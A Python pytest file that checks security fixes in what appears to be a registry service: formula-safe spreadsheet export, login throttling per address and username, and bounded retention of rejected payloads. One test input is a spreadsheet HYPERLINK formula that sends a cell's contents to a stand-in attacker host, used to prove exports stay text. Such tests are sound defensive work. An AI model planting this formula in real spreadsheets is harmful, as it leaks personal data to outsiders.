"""Issue 15's security items, each proven by what an attacker sent: formula injection in spreadsheets,
login throttling per client address, bounded kept payloads, JSON bombs, photo hashes as keys, and the
smaller ones (directory oracle, control characters, truncated JPEGs, absurd dates, session lifetime)."""
import io
import threading
from concurrent.futures import ThreadPoolExecutor

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from server import auth as auth_module
from server.auth import create_user
from server.extensions import db
from offline_queue.kept import KEEP_STRING_CHARS
from server.models import AuditEvent, RejectedPayload, Submission
from server.reconcile import run_reconciliation
from tests.conftest import PASSWORD, add_member
from tests.sync_support import add_registry, item, post_items, stored_photo

LEAK = '=HYPERLINK("http://evil.example/?leak="&E2,"Bấm để xem")'
NASTY_TEXTS = [LEAK, "\t=1+1", "+1+1", "-2+3", "@SUM(1)", "\r=1+1", "=1"]


# ---- 1. formula injection ------------------------------------------------------------------------------

def test_the_review_export_stores_text_that_looks_like_a_formula_as_text(app, tree, login_as):
    add_registry()  # Nguyễn Văn An with citizen ID 001060012345: every member below differs by name
    for index, text in enumerate(NASTY_TEXTS):
        add_member(tree["C1"], f"X{index}", full_name=text, hometown=text)
    db.session.commit()
    run_reconciliation()
    admin = login_as("unit_admin", "P")

    response = admin.get("/api/v1/review/export.xlsx?unit=C1")

    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    names = {row[0].value: (row[1], row[5]) for row in sheet.iter_rows(min_row=2)}
    for index, text in enumerate(NASTY_TEXTS):
        name, hometown = names[f"X{index}"]
        kept = text.replace("\r", "\n")  # XML reads a bare CR as a line end; the cell stays text either way
        assert name.value == kept and hometown.value == kept  # intact, the leading tab included
        assert name.quotePrefix and hometown.quotePrefix  # stays text when someone edits the cell


# ---- 2 and 3. login throttling per username at an address, and per address -----------------------------

def _login(client, username, password, address):
    return client.post("/api/v1/auth/login", json={"username": username, "password": password},
                       environ_base={"REMOTE_ADDR": address})


@pytest.fixture
def hashes(monkeypatch):
    """Counts the password checks that reach scrypt."""
    calls = []
    real = auth_module.check_password_hash

    def counted(*args):
        calls.append(1)
        return real(*args)

    monkeypatch.setattr(auth_module, "check_password_hash", counted)
    return calls


def test_a_stranger_locks_only_their_own_address_out(client, tree, hashes):
    create_user("admin.p", PASSWORD, "unit_admin", "P")
    db.session.commit()
    for _ in range(10):
        assert _login(client, "admin.p", "guess-guess", "203.0.113.9").status_code == 401
    refused = _login(client, "admin.p", PASSWORD, "203.0.113.9")  # the right password too
    assert refused.status_code == 429 and refused.json["error"]["code"] == "too_many_attempts"
    assert 1 <= int(refused.headers["Retry-After"]) <= 15 * 60
    assert len(hashes) == 10  # the refused attempt never reached the password hash
    assert _login(client, "admin.p", PASSWORD, "198.51.100.7").status_code == 200  # the admin's own address
    addresses = db.session.scalars(select(AuditEvent.detail).where(AuditEvent.action == "auth.login")).all()
    assert [d["address"] for d in addresses] == ["203.0.113.9"] * 11 + ["198.51.100.7"]


def test_one_address_trying_many_usernames_is_slowed_too(app, client, tree, hashes):
    create_user("ana", PASSWORD, "officer", "C1")
    db.session.commit()
    limit = app.config["LOGIN_MAX_FAILURES_PER_ADDRESS"]
    for n in range(limit):
        assert _login(client, f"guess{n}", "guess-guess", "203.0.113.9").status_code == 401
    refused = _login(client, "ana", PASSWORD, "203.0.113.9")
    assert refused.status_code == 429 and int(refused.headers["Retry-After"]) >= 1
    assert len(hashes) == limit
    assert _login(client, "ana", PASSWORD, "198.51.100.7").status_code == 200


def test_a_good_sign_in_gives_its_slot_back_to_the_address(app, client, tree):
    create_user("ana", PASSWORD, "officer", "C1")
    db.session.commit()
    app.config["LOGIN_MAX_FAILURES_PER_ADDRESS"] = 3
    for _ in range(5):  # an office behind one address signing in all day is never slowed by its successes
        assert _login(client, "ana", PASSWORD, "192.0.2.1").status_code == 200


def test_concurrent_wrong_passwords_reach_the_hash_no_more_than_the_limit(app, tree, hashes):
    create_user("ana", PASSWORD, "officer", "C1")
    db.session.commit()
    db.session.remove()
    barrier = threading.Barrier(40)

    def attempt(_):
        with app.app_context():
            client = app.test_client()
            barrier.wait()
            try:
                return _login(client, "ana", "guess-guess", "203.0.113.9").status_code
            finally:
                db.session.remove()

    with ThreadPoolExecutor(40) as pool:
        statuses = sorted(pool.map(attempt, range(40)))
    assert statuses == [401] * 10 + [429] * 30
    assert len(hashes) == 10


# ---- 4. what is kept of rejected items is bounded ------------------------------------------------------

def _kept():
    db.session.expire_all()
    return db.session.scalars(select(RejectedPayload).order_by(RejectedPayload.id)).all()


def test_an_item_no_field_could_ever_hold_refuses_the_envelope_and_keeps_nothing(login_as, members):
    officer = login_as("officer", "C1")
    good = item(stored_photo(), member_id=members["m1"].id)
    huge = item(stored_photo(), member_id=members["m1"].id, fields={"full_name": "A" * 400_000})
    response = post_items(officer, [good, huge])
    assert response.status_code == 413 and response.json["error"]["code"] == "item_too_large"
    assert list(response.json["error"]["fields"]) == ["items.1"]
    assert _kept() == [] and db.session.query(Submission).count() == 0


def test_a_rejected_item_is_kept_cut_to_its_bounds_and_marked(login_as, members):
    officer = login_as("officer", "C1")
    long_name = "Nguyễn " * 300  # 2,100 characters: too long, yet under the never-valid bound
    typed = item(stored_photo(), member_id=members["m1"].id, fields={"full_name": long_name})
    normal = item(stored_photo(), member_id=members["m1"].id, consent=False)
    results = post_items(officer, [typed, normal]).json["results"]
    assert [r["outcome"] for r in results] == ["rejected", "rejected"]
    cut, whole = _kept()
    assert cut.truncated and cut.payload["fields"]["full_name"] == long_name[:KEEP_STRING_CHARS]
    assert cut.payload["client_id"] == typed["client_id"] and cut.payload["fields"]["hometown"] == "Hà Nội"
    assert not whole.truncated and whole.payload == normal  # what fits is kept exactly as received
    assert 0 < whole.kept_bytes < 2000


def test_a_device_keeps_a_bounded_amount_a_day_then_only_the_reasons(login_as, members, monkeypatch):
    monkeypatch.setattr("offline_queue.kept.KEEP_BYTES_PER_DEVICE_DAY", 1000)
    officer = login_as("officer", "C1")
    bad = [item(stored_photo(), member_id=members["m1"].id, consent=False) for _ in range(4)]
    assert [r["outcome"] for r in post_items(officer, bad).json["results"]] == ["rejected"] * 4
    rows = _kept()
    assert rows[0].payload == bad[0] and rows[0].kept_bytes > 300  # the first ones whole
    assert rows[-1].payload == {} and rows[-1].truncated and rows[-1].client_id == bad[-1]["client_id"]
    assert rows[-1].errors == [{"field": "consent", "code": "consent_required", "params": {}}]
    assert sum(row.kept_bytes for row in rows) <= 1000
    other_device = post_items(officer, [item(stored_photo(), consent=False)], device_id="made-up-2")
    assert other_device.status_code == 200 and _kept()[-1].payload == {}  # a new device id is no way round
